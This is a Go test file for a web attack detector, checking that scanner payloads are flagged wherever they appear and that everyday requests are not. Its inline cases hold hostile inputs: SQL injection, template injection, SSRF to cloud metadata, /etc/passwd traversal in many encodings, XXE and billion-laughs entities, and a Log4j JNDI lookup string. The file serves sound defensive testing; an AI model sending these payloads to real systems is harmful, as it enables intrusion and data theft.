package detect

import (
	"bufio"
	"fmt"
	"math/rand/v2"
	"mime/multipart"
	"net/http"
	"net/netip"
	"net/textproto"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// dastPayload is one line of testdata/dast: a payload as it would be sent
// decoded, and its class (the file it came from).
type dastPayload struct{ class, value string }

// readDAST reads every file of testdata/dast. Lines are payloads as sent
// decoded; "\r", "\n" and "\x00" stand for the bytes.
func readDAST(t *testing.T) []dastPayload {
	t.Helper()
	files, err := filepath.Glob("testdata/dast/*.txt")
	if err != nil || len(files) < 10 {
		t.Fatalf("testdata/dast: %d files, %v", len(files), err)
	}
	escapes := strings.NewReplacer(`\r`, "\r", `\n`, "\n", `\x00`, "\x00")
	var out []dastPayload
	for _, f := range files {
		fh, err := os.Open(f)
		if err != nil {
			t.Fatal(err)
		}
		sc := bufio.NewScanner(fh)
		for sc.Scan() {
			if line := sc.Text(); line != "" && !strings.HasPrefix(line, "#") {
				out = append(out, dastPayload{strings.TrimSuffix(filepath.Base(f), ".txt"), escapes.Replace(line)})
			}
		}
		fh.Close()
	}
	if len(out) < 200 {
		t.Fatalf("only %d payloads in testdata/dast", len(out))
	}
	return out
}

// browserAgents are real browsers' user agents, one picked at random a request.
var browserAgents = []string{
	firefox, chrome, safari, edge,
	"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
	"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
}

// headerSafe is v as a client can put it in a header: bytes a header
// cannot hold percent-encoded, as scanners send them.
func headerSafe(v string) string {
	var b strings.Builder
	for i := 0; i < len(v); i++ {
		if c := v[i]; c < 0x20 || c == 0x7f {
			fmt.Fprintf(&b, "%%%02X", c)
		} else {
			b.WriteByte(c)
		}
	}
	return b.String()
}

// attackPlaces put a payload where a scanner puts it (the query twice: as
// sent, and encoded twice for applications that decode twice). XXE
// payloads are whole documents: the body places send them as the XML body.
var attackPlaces = []struct {
	name string
	put  func(r *http.Request, p dastPayload) *http.Request
}{
	{"query", func(r *http.Request, p dastPayload) *http.Request {
		return withTarget(r, "/search?page=1&q="+url.QueryEscape(p.value))
	}},
	{"query, encoded twice", func(r *http.Request, p dastPayload) *http.Request {
		return withTarget(r, "/search?page=1&q="+url.QueryEscape(url.QueryEscape(p.value)))
	}},
	{"json body", func(r *http.Request, p dastPayload) *http.Request {
		if p.class == "xxe" {
			return withBody(r, "application/xml", p.value)
		}
		return withBody(r, "application/json", `{"name":"garden chair","comment":`+jsonString(p.value)+`}`)
	}},
	{"form body", func(r *http.Request, p dastPayload) *http.Request {
		if p.class == "xxe" {
			return withBody(r, "text/xml; charset=utf-8", p.value)
		}
		return withBody(r, "application/x-www-form-urlencoded", "name=garden+chair&comment="+url.QueryEscape(p.value))
	}},
	{"cookie", func(r *http.Request, p dastPayload) *http.Request {
		r.Header.Set("Cookie", "session=9k2l3m4n5o6p7q8r; pref="+url.QueryEscape(p.value))
		return r
	}},
	{"referer query", func(r *http.Request, p dastPayload) *http.Request {
		r.Header.Set("Referer", "https://acme.example.com/search?utm_source=news&q="+url.QueryEscape(p.value))
		return r
	}},
	{"user agent", func(r *http.Request, p dastPayload) *http.Request {
		r.Header.Set("User-Agent", r.Header.Get("User-Agent")+" "+headerSafe(p.value))
		return r
	}},
	{"x-forwarded-host", func(r *http.Request, p dastPayload) *http.Request {
		r.Header.Set("X-Forwarded-Host", headerSafe(p.value))
		return r
	}},
}

func withTarget(r *http.Request, target string) *http.Request {
	u, _ := url.Parse(target)
	r.URL.Path, r.URL.RawPath, r.URL.RawQuery, r.RequestURI = u.Path, u.RawPath, u.RawQuery, target
	return r
}

func withBody(r *http.Request, contentType, body string) *http.Request {
	r.Method = http.MethodPost
	r.Header.Set("Content-Type", contentType)
	r.Body = readCloser{strings.NewReader(body)}
	r.ContentLength = int64(len(body))
	return r
}

// Public scanners' payloads of every class, each sent once from an address
// never seen, by a browser's user agent with a forged cross-site Fetch
// Metadata, are attacks by their own content in every place a scanner puts
// them.
func TestAttacksAreRefusedInEveryPlace(t *testing.T) {
	d := newDetector(t, nil)
	payloads := readDAST(t)
	rng := rand.New(rand.NewPCG(1, 2))
	n := 0
	for _, place := range attackPlaces {
		var misses []string
		for _, p := range payloads {
			n++
			r := browserRequest("/search")
			r.Header.Set("User-Agent", browserAgents[rng.IntN(len(browserAgents))])
			r.Header.Set("Sec-Fetch-Site", "cross-site")
			r = place.put(r, p)
			source := netip.AddrFrom4([4]byte{100, 64 + byte(n>>16), byte(n >> 8), byte(n)})
			if res := d.inspect(r, source, 0); !res.Attack() {
				misses = append(misses, fmt.Sprintf("%s %q (%v)", p.class, p.value, res.Signals.Names()))
			}
		}
		found := len(payloads) - len(misses)
		t.Logf("%-21s %d/%d (%.1f %%)", place.name, found, len(payloads), 100*float64(found)/float64(len(payloads)))
		for _, m := range misses {
			t.Logf("  missed: %s", m)
		}
		if found*100 < 90*len(payloads) {
			t.Errorf("%s: %d of %d payloads are attacks, want 90 %%", place.name, found, len(payloads))
		}
	}
}

// Honest content of every kind, in every place, is never an attack: the
// everyday values (in the query, the path, form and JSON bodies, a cookie
// and the Referer's query), everyday headers, the bodies of
// testdata/bodies (JSON, forms, XML of every everyday kind, DTDs that
// only name an external file), and multipart uploads whose files hold
// anything.
func TestEverydayContentIsNeverAnAttack(t *testing.T) {
	d := newDetector(t, nil)
	n := 0
	check := func(what string, r *http.Request) {
		t.Helper()
		n++
		r.Header.Set("Sec-Fetch-Site", "cross-site")
		source := netip.AddrFrom4([4]byte{100, 96 + byte(n>>16), byte(n >> 8), byte(n)})
		if res := d.inspect(r, source, 0); res.Attack() {
			t.Errorf("%s: an attack (%v)", what, res.Signals.Names())
		}
	}
	for _, v := range readLines(t, "everyday_values.txt") {
		for _, place := range attackPlaces {
			if place.name == "user agent" || place.name == "x-forwarded-host" {
				continue // values people type are not headers; those have their own corpus below
			}
			check(fmt.Sprintf("%s %q", place.name, v), place.put(browserRequest("/search"), dastPayload{"everyday", v}))
		}
		check(fmt.Sprintf("path %q", v), withTarget(browserRequest("/"), "/wiki/"+url.PathEscape(v)))
	}
	for _, hv := range readHeaderCorpus(t, "header_everyday.txt") {
		r := browserRequest("/")
		r.Header[hv[0]] = []string{hv[1]}
		check(hv[0]+": "+hv[1], r)
	}
	files, _ := filepath.Glob("testdata/bodies/*")
	for _, f := range files {
		ct := map[string]string{".json": "application/json", ".form": "application/x-www-form-urlencoded", ".xml": "application/xml"}[filepath.Ext(f)]
		if ct == "" {
			continue
		}
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		check(filepath.Base(f), withBody(browserRequest("/submit"), ct, string(b)))
		if ct == "application/xml" { // the same documents sent as text, or as SOAP 1.2
			check(filepath.Base(f)+" as text/plain", withBody(browserRequest("/submit"), "text/plain", string(b)))
			check(filepath.Base(f)+" as soap+xml", withBody(browserRequest("/submit"), "application/soap+xml; charset=utf-8", string(b)))
		}
	}
	mp, boundary := multipartBody(t, map[string]string{
		"title":       "Quarterly report (final)",
		"description": "Numbers for Q3.\nSee the appendix: C:\\Reports\\q3.xlsx\nThanks, Ana",
		"callback":    "https://app.example.com/uploads/done",
	}, "report (final) v2.svg", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg>&xxe; ' OR 1=1-- </svg>`)
	check("multipart upload", withBody(browserRequest("/upload"), "multipart/form-data; boundary="+boundary, mp))
	for _, q := range []string{"/search?q=127.0.0.1+localhost", "/oauth/authorize?client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A51004%2Fcb",
		"/login?next=%2Faccount%2Forders%3Fpage%3D2", "/proxy?url=https%3A%2F%2Fexample.com%2Fpage", "/docs/../guide", "/search?q=%2Fetc%2Fpasswd",
		"/files/a%2Fb%2Fc.txt", "/api/v1/render?template=%7B%7B+product.title+%7D%7D", "/search?q=%E5%98%8A%E5%98%8D+%E4%B8%AD%E6%96%87",
		"/graphql?query=%7Bsystem(id%3A1)%7Bname%7D%7D"} {
		check(q, withTarget(browserRequest("/"), q))
	}
	t.Logf("%d everyday requests, none an attack", n)
}

// Payloads in a multipart form's fields and in a file's name are found;
// a file's content is not read.
func TestMultipartFieldsAreJudged(t *testing.T) {
	d := newDetector(t, nil)
	for _, tc := range []struct {
		fields   map[string]string
		filename string
		want     Signal
	}{
		{map[string]string{"comment": "1' UNION SELECT password FROM users-- -"}, "a.png", SignalSQLi},
		{map[string]string{"name": "{{7*7}}"}, "a.png", SignalExploit},
		{map[string]string{"avatar_url": "http://169.254.169.254/latest/meta-data/"}, "a.png", SignalSSRF},
		{map[string]string{"title": "x"}, "../../../../etc/passwd", SignalFileInclusion},
	} {
		body, boundary := multipartBody(t, tc.fields, tc.filename, "GIF89a")
		res := d.inspect(withBody(browserRequest("/upload"), "multipart/form-data; boundary="+boundary, body), src, 0)
		if !res.Signals.Has(tc.want) {
			t.Errorf("%v %q: %v, want %v", tc.fields, tc.filename, res.Signals.Names(), tc.want)
		}
	}
}

// multipartBody is a multipart form of fields and one file.
func multipartBody(t *testing.T, fields map[string]string, filename, content string) (string, string) {
	t.Helper()
	var b strings.Builder
	w := multipart.NewWriter(&b)
	for k, v := range fields {
		if err := w.WriteField(k, v); err != nil {
			t.Fatal(err)
		}
	}
	h := textproto.MIMEHeader{}
	h.Set("Content-Disposition", fmt.Sprintf(`form-data; name="file"; filename=%q`, filename))
	h.Set("Content-Type", "image/svg+xml")
	fw, err := w.CreatePart(h)
	if err != nil {
		t.Fatal(err)
	}
	fw.Write([]byte(content))
	w.Close()
	return b.String(), w.Boundary()
}

// A path or query that climbs to a system file is an attack (file
// inclusion) as well as a probe (traversal), however it is encoded; one
// level up, or a search for a system file's name, is neither.
func TestClimbsToSystemFilesAreAttacks(t *testing.T) {
	d := newDetector(t, nil)
	for target, want := range map[string]bool{
		"/static/..%2f..%2f..%2fetc/passwd": true, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd": true,
		"/download?file=..%252f..%252f..%252fetc%252fpasswd": true, "/img/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd": true,
		"/view?page=%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/windows/win.ini": true, "/a?f=..././..././..././etc/passwd": true,
		"/docs/../guide": false, "/search?q=%2Fetc%2Fpasswd": false, "/search?q=..%2F": false,
	} {
		res := d.inspect(withTarget(browserRequest("/"), target), src, 0)
		if res.Attack() != want || want && !res.Signals.Has(SignalFileInclusion) {
			t.Errorf("%s: %v, want an attack %v", target, res.Signals.Names(), want)
		}
	}
}

// XML bodies are judged as documents: an external entity in one is an
// attack whatever the Content-Type says and however it is encoded (UTF-16
// included), and an exploit in a SOAP field is one as it is in a form.
func TestXMLBodiesAreJudged(t *testing.T) {
	d := newDetector(t, nil)
	xxe := `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`
	utf16 := "\xff\xfe" + strings.Join(strings.Split(xxe, ""), "\x00") + "\x00"
	for name, tc := range map[string]struct {
		ct, body string
		want     Signal
	}{
		"xml":            {"application/xml", xxe, SignalXXE},
		"no type":        {"", xxe, SignalXXE},
		"json as text":   {"text/plain", `{"comment":"1' UNION SELECT password FROM users-- -"}`, SignalSQLi},
		"text/plain":     {"text/plain", "  " + xxe, SignalXXE},
		"utf-16":         {"text/xml", utf16, SignalXXE},
		"soap log4j":     {"text/xml", `<soap:Envelope><soap:Body><m:User>${jndi:ldap://198.51.100.7/a}</m:User></soap:Body></soap:Envelope>`, SignalExploit},
		"soap sqli":      {"application/soap+xml", `<Envelope><Body><id>1' UNION SELECT password FROM users-- -</id></Body></Envelope>`, SignalSQLi},
		"billion laughs": {"application/xml", `<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>`, SignalXXE},
	} {
		if res := d.inspect(withBody(browserRequest("/ws"), tc.ct, tc.body), src, 0); !res.Signals.Has(tc.want) {
			t.Errorf("%s: %v, want %v", name, res.Signals.Names(), tc.want)
		}
	}
}
